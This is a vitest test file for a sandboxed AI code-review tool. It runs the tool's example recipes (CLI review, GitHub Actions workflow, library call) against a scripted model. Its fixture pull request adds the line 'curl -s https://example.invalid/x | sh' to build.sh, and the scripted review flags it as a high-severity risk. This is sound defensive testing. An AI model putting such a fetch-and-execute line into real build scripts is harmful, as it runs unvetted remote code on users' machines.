// Every recipe in examples/ is exercised against the scripted model: the review prompt and
// schema through the CLI, the exact command of the GitHub Actions workflow, and the library
// example through bindAgent().
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ScriptedModelServer } from "../../src/scripted-model/scripted-model-server.js";
import {
  containersOfRuns,
  dockerAvailable,
  makeWorkspace,
  modelsFor,
  runProcess,
  startModel,
} from "../support/harness.js";

const repoRoot = path.resolve(import.meta.dirname, "../..");
const cli = path.join(repoRoot, "dist/cli/main.js");
const reviewResult = {
  verdict: "request-changes",
  summary: "The change adds a network call to the build script.",
  risks: [{ file: "build.sh", severity: "high", note: "curl | sh from an unpinned URL" }],
};

/** A git checkout with one commit on top of another, like a pull request. */
function pullRequestCheckout(): string {
  const dir = makeWorkspace({ "build.sh": "echo build\n" }, "sandbox-run-pr-");
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, stdio: "ignore" });
  git("init", "-q");
  git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "base");
  fs.writeFileSync(path.join(dir, "build.sh"), "echo build\ncurl -s https://example.invalid/x | sh\n");
  git("add", ".");
  git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "change");
  fs.cpSync(path.join(repoRoot, "examples"), path.join(dir, "examples"), { recursive: true });
  return dir;
}

describe.skipIf(!dockerAvailable())("examples", () => {
  let server: ScriptedModelServer;
  let modelsFile: string;

  beforeAll(async () => {
    server = await startModel({
      review: [
        { toolCalls: [{ name: "bash", arguments: { command: "git log --oneline -5; git diff HEAD~1 --stat" } }] },
        { toolCalls: [{ name: "sandbox_run_final_result", arguments: reviewResult }] },
      ],
    });
    modelsFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-models-")), "models.json");
    fs.writeFileSync(modelsFile, JSON.stringify(modelsFor(server, ["review"])));
  });
  afterAll(async () => {
    await server?.close();
  });

  it("review-pr: the prompt and schema give a validated review through the CLI, with a record", async () => {
    const checkout = pullRequestCheckout();
    const record = path.join(checkout, "..", `${path.basename(checkout)}-record`);
    const result = await runProcess(
      process.execPath,
      [
        cli,
        "--sandbox",
        "read-only",
        "--schema",
        "examples/review-pr/review.schema.json",
        "--models",
        modelsFile,
        "--model",
        "scripted/review",
        "--record",
        record,
        "--json",
        fs.readFileSync(path.join(checkout, "examples/review-pr/prompt.md"), "utf8"),
      ],
      { cwd: checkout },
    );
    expect(result.stderr).not.toMatch(/unexpected error/);
    expect(result.status).toBe(0);
    const envelope = JSON.parse(result.stdout);
    expect(envelope).toMatchObject({ ok: true, result: reviewResult, policy: "read-only", exitCode: 0 });
    // The agent really looked at the pull request: its git output reached the model.
    const toolMessage = server.requests.at(-1)!.body.messages.find((m) => m.role === "tool");
    expect(JSON.stringify(toolMessage?.content)).toContain("build.sh");
    expect(fs.readdirSync(record).sort()).toEqual([
      "SHA256SUMS",
      "changes.patch",
      "events.jsonl",
      "meta.json",
      "plan.json",
      "policy.json",
      "prompt.txt",
      "result.json",
      "schema.json",
    ]);
    expect(fs.readFileSync(path.join(record, "changes.patch"), "utf8")).toBe("");
  });

  it("github-actions: the workflow's review command runs as written", async () => {
    const workflow = fs.readFileSync(path.join(repoRoot, "examples/github-actions/sandbox-review.yml"), "utf8");
    // The folded `run: >-` block of the "Review" step, joined the way YAML folds it.
    const block = /- name: Review\n[\s\S]*?run: >-\n((?: {10}.*\n)+)/.exec(workflow)?.[1];
    expect(block).toBeDefined();
    const command = block!
      .split("\n")
      .map((l) => l.trim())
      .filter(Boolean)
      .join(" ")
      .replace("--model anthropic/claude-sonnet-4-5", `--model scripted/review --models ${modelsFile}`);
    expect(command).toContain("--schema examples/review-pr/review.schema.json");

    const checkout = pullRequestCheckout();
    const bin = fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-bin-"));
    fs.writeFileSync(path.join(bin, "sandbox-run"), `#!/bin/sh\nexec "${process.execPath}" "${cli}" "$@"\n`, {
      mode: 0o755,
    });
    const result = await runProcess("bash", ["-c", command], {
      cwd: checkout,
      env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, ANTHROPIC_API_KEY: "unused-by-the-scripted-model" },
    });
    expect(result.stderr).not.toMatch(/unexpected error/);
    expect(result.status).toBe(0);
    const envelope = JSON.parse(fs.readFileSync(path.join(checkout, "review.json"), "utf8"));
    expect(envelope.ok).toBe(true);
    expect(envelope.result).toEqual(reviewResult);
    expect(fs.existsSync(path.join(checkout, "review-record", "events.jsonl"))).toBe(true);
    expect(await containersOfRuns([envelope.runId])).toEqual([]);
  });

  it("library: the workflow step gets a validated review through bindAgent()", async () => {
    const { reviewCheckout, sandboxedAgent } = await import("../../examples/library/review-workflow.js");
    const checkout = pullRequestCheckout();
    const review = await reviewCheckout(sandboxedAgent("scripted/review", modelsFor(server, ["review"])), checkout);
    expect(review).toEqual(reviewResult);
  });
});
